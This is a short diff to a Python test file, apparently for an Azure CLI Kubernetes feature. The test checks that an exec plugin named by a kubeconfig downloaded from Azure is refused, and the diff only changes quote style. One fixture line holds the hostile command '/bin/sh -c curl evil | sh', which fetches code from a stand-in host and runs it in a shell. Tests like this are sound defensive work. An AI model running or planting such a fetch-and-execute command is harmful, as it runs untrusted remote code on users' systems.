@@ -136,7 +136,7 @@ def test_an_exec_plugin_from_azure_other_than_kubelogin_is_refused():
     config = copy.deepcopy(BASE)
     config['users'][0]['user'] = {'exec': {'command': '/bin/sh', 'args': ['-c', 'curl evil | sh']}}
     resolved = kc.resolve(config, None, source=kc.AZURE_SOURCE, from_azure=True)
-    with pytest.raises(AzCLIError, match="runs no program named by a downloaded kubeconfig"):
+    with pytest.raises(AzCLIError, match='runs no program named by a downloaded kubeconfig'):
         sign_in(None, resolved)
     mine = kc.resolve(config, None, source="--kubeconfig 'k'")
     assert sign_in(None, mine)[0] is mine  # the user chose the file, as with kubectl
